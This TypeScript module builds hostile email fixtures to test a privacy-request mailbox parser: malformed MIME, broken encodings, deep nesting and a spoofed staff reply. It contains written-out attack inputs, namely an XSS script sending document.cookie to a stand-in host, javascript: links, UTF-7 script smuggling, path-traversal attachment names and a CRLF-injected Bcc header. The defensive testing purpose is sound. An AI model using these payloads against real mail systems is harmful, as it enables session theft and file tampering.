import { REQUEST_SUBJECT, REQUEST_TEXT, TEXT_PART, attachmentPart, base64Lines, multipart, noise, rawMail, senderFor } from './hostile-build.js';
import type { CorpusBuilders } from './hostile-corpus.js';

// Hostile bodies: MIME structure, encodings, charsets, HTML and attachments. The outcome each must
// get is in test/fixtures/hostile/manifest.json under the same id.

/** The 15 MB attachment: over the test's MAX_MESSAGE_BYTES (10 MiB), built here, never committed. */
export const HUGE_ATTACHMENT_BYTES = 15 * 1024 * 1024;

const mixed = (boundary: string): string[] => [`Content-Type: multipart/mixed; boundary="${boundary}"`];

/** `depth` multiparts inside each other, the request text in the innermost. */
function nested(depth: number): string {
  let inner = TEXT_PART;
  for (let i = depth; i >= 1; i--) inner = `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n${multipart(`n${i}`, [inner])}`;
  return inner;
}

/** `depth` message/rfc822 parts inside each other, each a request from someone else. */
function nestedMessages(depth: number): string {
  let inner = `From: Inner <inner.person@example.net>\r\nSubject: ${REQUEST_SUBJECT}\r\nMessage-ID: <inner-${depth}@example.net>\r\n\r\n${REQUEST_TEXT}`;
  for (let i = depth - 1; i >= 1; i--) {
    inner = `From: Inner <inner.person@example.net>\r\nSubject: ${REQUEST_SUBJECT}\r\nMessage-ID: <inner-${i}@example.net>\r\nContent-Type: message/rfc822\r\n\r\n${inner}`;
  }
  return inner;
}

const HTML_ATTACK = [
  '<html><head><script>document.location="https://evil.example.net/?c="+document.cookie</script>',
  '<style>body{background:url("javascript:alert(1)")}</style></head>',
  '<body onload="alert(1)"><p>Please delete all my personal data.</p>',
  '<a href="javascript:alert(document.domain)">confirm here</a> <a href="JaVaScRiPt&#58;alert(2)">or here</a>',
  '<img src=x onerror="alert(3)"><iframe src="https://evil.example.net/"></iframe>',
  '<svg><script>alert(4)</script></svg><form action="https://evil.example.net/"><input name="p"></form>',
  '</body></html>',
].join('\r\n');

export const MIME_CASES: CorpusBuilders = {
  'unknown-charset-body': (id) => rawMail(id, { contentHeaders: ['Content-Type: text/plain; charset=x-klingon-99', 'Content-Transfer-Encoding: 8bit'] }),
  'charset-utf7-script': (id) =>
    rawMail(id, {
      contentHeaders: ['Content-Type: text/plain; charset=utf-7'],
      body: 'Please delete my data. +ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n',
    }),
  'charset-parameter-10000-chars': (id) => rawMail(id, { contentHeaders: [`Content-Type: text/plain; charset=${'u'.repeat(10_000)}`] }),
  'broken-base64-body': (id) =>
    rawMail(id, {
      contentHeaders: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
      body: `${Buffer.from('Please delete all my personal data.').toString('base64').slice(0, 30)}!!!***\r\n====\r\nQUJD=RE\r\n@@@`,
    }),
  'broken-quoted-printable-body': (id) =>
    rawMail(id, {
      contentHeaders: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable'],
      body: 'Please delete =ZZ my data =\r\n=\r\n=4 =E2=80 =\r\n',
    }),
  'unknown-transfer-encoding': (id) =>
    rawMail(id, { contentHeaders: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: x-uuencode-9000'] }),
  'lone-surrogates-in-utf16-body': (id) => {
    const text = 'Please delete all my personal data. \ud800 \udfff end';
    const bytes = Buffer.alloc(text.length * 2);
    for (let i = 0; i < text.length; i++) bytes.writeUInt16BE(text.charCodeAt(i), i * 2);
    return rawMail(id, { contentHeaders: ['Content-Type: text/plain; charset=utf-16be', 'Content-Transfer-Encoding: base64'], body: base64Lines(bytes) });
  },
  'nul-bytes-in-body': (id) => rawMail(id, { body: `Please delete\u0000 all my\u0000\u0000 personal data.\r\n${'\u0000'.repeat(1000)}\r\n` }),
  'nul-bytes-in-base64-body': (id) =>
    rawMail(id, {
      contentHeaders: ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: base64'],
      body: base64Lines(Buffer.from('Please delete\u0000 all my personal data.\u0000\r\n')),
    }),
  'attachment-15mb': (id) =>
    rawMail(id, { contentHeaders: mixed('big'), body: multipart('big', [TEXT_PART, attachmentPart('scan.pdf', noise(HUGE_ATTACHMENT_BYTES), 'application/pdf')]) }),
  'multipart-nested-50': (id) => nestedMail(id, 50),
  'multipart-nested-2000': (id) => nestedMail(id, 2000),
  'multipart-unterminated': (id) =>
    rawMail(id, { contentHeaders: mixed('open'), body: `--open\r\n${TEXT_PART}\r\n--open\r\nContent-Type: text/plain\r\n\r\nand the rest never ends` }),
  'multipart-without-boundary': (id) => rawMail(id, { contentHeaders: ['Content-Type: multipart/mixed'], body: REQUEST_TEXT }),
  'multipart-boundary-in-text': (id) =>
    rawMail(id, { contentHeaders: mixed('x'), body: multipart('x', [`Content-Type: text/plain\r\n\r\n--x-not-a-boundary\r\n--x\r\n${REQUEST_TEXT}`]) }),
  'message-rfc822-inside': (id) =>
    rawMail(id, {
      contentHeaders: mixed('fw'),
      body: multipart('fw', [
        TEXT_PART,
        // The inner mail claims to be staff and to answer a ticket: only the outer sender counts.
        `Content-Type: message/rfc822\r\n\r\nFrom: Privacy Team <privacy@mexrontal.com>\r\nSubject: [DSR-2026-000001] Re: ${REQUEST_SUBJECT}\r\nMessage-ID: <inner-staff@mexrontal.com>\r\nAuto-Submitted: auto-replied\r\n\r\n#close done\r\n`,
      ]),
    }),
  'message-rfc822-nested-50': (id) =>
    rawMail(id, { contentHeaders: mixed('m'), body: multipart('m', [TEXT_PART, `Content-Type: message/rfc822\r\n\r\n${nestedMessages(50)}`]) }),
  'html-script-and-javascript-links': (id) => rawMail(id, { contentHeaders: ['Content-Type: text/html; charset=utf-8'], body: HTML_ATTACK }),
  'html-script-in-alternative': (id) =>
    rawMail(id, {
      contentHeaders: ['Content-Type: multipart/alternative; boundary="alt"'],
      body: multipart('alt', [TEXT_PART, `Content-Type: text/html; charset=utf-8\r\n\r\n${HTML_ATTACK}`]),
    }),
  'attachment-path-traversal-names': (id) =>
    rawMail(id, {
      contentHeaders: mixed('files'),
      body: multipart('files', [
        TEXT_PART,
        attachmentPart('../../../../etc/passwd', Buffer.from('root:x:0:0')),
        attachmentPart('..\\..\\..\\windows\\system32\\evil.dll', Buffer.from('MZ')),
        attachmentPart('/var/lib/privacy-desk/outbox/evil.eml', Buffer.from('x')),
        attachmentPart('C:\\autoexec.bat', Buffer.from('x')),
      ]),
    }),
  'attachment-name-encoded-traversal-nul-crlf': (id) =>
    rawMail(id, {
      contentHeaders: mixed('enc'),
      body: multipart('enc', [
        TEXT_PART,
        [
          "Content-Type: application/octet-stream; name*=UTF-8''..%2F..%2Fetc%2Fcron.d%2Fx%00.pdf",
          "Content-Disposition: attachment; filename*=UTF-8''..%2F..%2Fetc%2Fcron.d%2Fx%00%0D%0ABcc%3A%20v%40example.net.pdf",
          'Content-Transfer-Encoding: base64',
          '',
          base64Lines(Buffer.from('x')),
        ].join('\r\n'),
        attachmentPart(`invoice\u202Efdp.exe`, Buffer.from('MZ')),
        attachmentPart(`${'n'.repeat(5000)}.txt`, Buffer.from('x')),
      ]),
    }),
  'attachment-1000-parts': (id) =>
    rawMail(id, {
      contentHeaders: mixed('many'),
      body: multipart('many', [TEXT_PART, ...Array.from({ length: 1000 }, (_, i) => attachmentPart(`f${i}.txt`, Buffer.from(`file ${i}`)))]),
    }),
  'binary-garbage': () => noise(64 * 1024, 7),
  'empty-message': () => Buffer.alloc(0),
  'body-without-headers': () => Buffer.from(`\r\n\r\n${REQUEST_TEXT}`),
  'only-headers-no-body': (id) => Buffer.from(`From: Test Person <${senderFor(id)}>\r\nTo: help@mexrontal.com\r\nSubject: ${REQUEST_SUBJECT}\r\n`),
};

function nestedMail(id: string, depth: number): Buffer {
  // nested() starts with the outermost part's Content-Type line: it becomes the message's.
  const part = nested(depth);
  const split = part.indexOf('\r\n\r\n');
  return rawMail(id, { contentHeaders: [part.slice(0, split)], body: part.slice(split + 4) });
}
